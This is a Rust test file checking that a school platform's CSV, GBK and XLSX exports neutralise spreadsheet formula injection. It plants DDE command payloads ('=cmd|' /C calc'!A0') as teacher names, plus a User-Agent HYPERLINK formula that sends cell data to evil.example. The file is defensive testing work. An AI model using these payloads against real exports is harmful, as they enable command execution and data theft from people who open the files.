//! V1.2.10 (CSV and formula injection): every CSV the platform writes neutralises a cell that
//! would start a formula, whoever put it there: an administrator's import, or a stranger's
//! User-Agent on a failed login that lands in the audit export.

use crate::helpers::{TestApp, node_by_code};
use reqwest::StatusCode;

const FORMULAS: [&str; 3] = ["=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+cmd|' /C calc'!A0"];

fn cells(text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// No cell starts a formula; each payload is there, behind a quote.
fn assert_neutral(text: &str, payloads: &[&str]) {
    let cells = cells(text.trim_start_matches('\u{feff}'));
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula: {c:?}"
        );
    }
    for p in payloads {
        assert!(
            cells.iter().any(|c| c == &format!("'{p}")),
            "{p} kept, neutralised"
        );
    }
}

#[tokio::test]
async fn asvs_v1_2_10_csv_exports_neutralise_formulas_in_utf8_and_gbk() {
    let app = TestApp::start().await;
    let school = node_by_code(&app, "2133010001").await;
    let token = app.token("school_admin").await;
    let http = reqwest::Client::new();
    // Three teachers whose names an attacker chose.
    let ids: Vec<(kernel::PersonId, String)> = kernel::on_db!(&app.state.db, p => sqlx::query_as(
        "SELECT p.id, p.name FROM persons p JOIN role_assignments r ON r.person_id = p.id
         WHERE p.org_id = $1 AND r.role = 'teacher' ORDER BY p.name LIMIT 3")
        .bind(school).fetch_all(p).await)
    .unwrap();
    assert_eq!(ids.len(), 3);
    for ((id, _), name) in ids.iter().zip(FORMULAS) {
        let r = http
            .patch(app.url(&format!("/api/v1/people/{id}")))
            .bearer_auth(&token)
            .json(&serde_json::json!({ "name": name }))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    }
    let admin = app.login("school_admin").await;
    for format in ["csv", "gbk"] {
        let r = admin
            .get(app.url(&format!(
                "/export/people?node={school}&role=teacher&format={format}"
            )))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        let bytes = r.bytes().await.unwrap();
        let text = if format == "gbk" {
            encoding_rs::GB18030.decode(&bytes).0.into_owned()
        } else {
            String::from_utf8(bytes.to_vec()).unwrap()
        };
        assert_neutral(&text, &FORMULAS);
    }
    // XLSX cells stay text: read back, the value is the name itself, not a formula's result.
    let r = admin
        .get(app.url(&format!(
            "/export/people?node={school}&role=teacher&format=xlsx"
        )))
        .send()
        .await
        .unwrap();
    let p = std::env::temp_dir().join(format!("jy-sec-{}.xlsx", uuid::Uuid::now_v7()));
    std::fs::write(&p, r.bytes().await.unwrap()).unwrap();
    let (_, rows) = sheets::read_all(&p).unwrap();
    let _ = std::fs::remove_file(&p);
    let texts: Vec<String> = rows
        .iter()
        .flat_map(|r| r.cells.iter().map(|c| c.text()))
        .collect();
    for f in FORMULAS {
        assert!(texts.iter().any(|t| t == f), "{f} as text in the XLSX");
    }
    app.stop().await;
}

#[tokio::test]
async fn asvs_v1_2_10_a_strangers_user_agent_reaches_the_audit_csv_as_text() {
    let app = TestApp::start().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")";
    let stranger = reqwest::Client::builder()
        .user_agent(evil)
        .cookie_store(true)
        .build()
        .unwrap();
    let page = stranger
        .get(app.url("/login"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = crate::helpers::extract_csrf(&page);
    let _ = stranger
        .post(app.url("/login"))
        .form(&[
            ("username", "teacher"),
            ("password", "wrong-password"),
            ("csrf", &csrf),
        ])
        .send()
        .await
        .unwrap();
    // Request-supplied fields are stored short.
    let long = "x".repeat(5000);
    let _ = reqwest::Client::new()
        .get(app.url("/login"))
        .header("user-agent", &long)
        .header("x-request-id", &long)
        .send()
        .await
        .unwrap();
    let (longest,): (i64,) = kernel::on_db!(&app.state.db, p => sqlx::query_as(
        "SELECT CAST(COALESCE(MAX(LENGTH(user_agent)), 0) AS BIGINT) FROM audit_log").fetch_one(p).await)
    .unwrap();
    assert!(longest <= 300, "user agents are capped: {longest}");
    let city = app.login("city_admin").await;
    let r = city
        .get(app.url("/export/audit?action=auth.login_failed&format=csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let text = r.text().await.unwrap();
    assert_neutral(&text, &[evil]);
    app.stop().await;
}
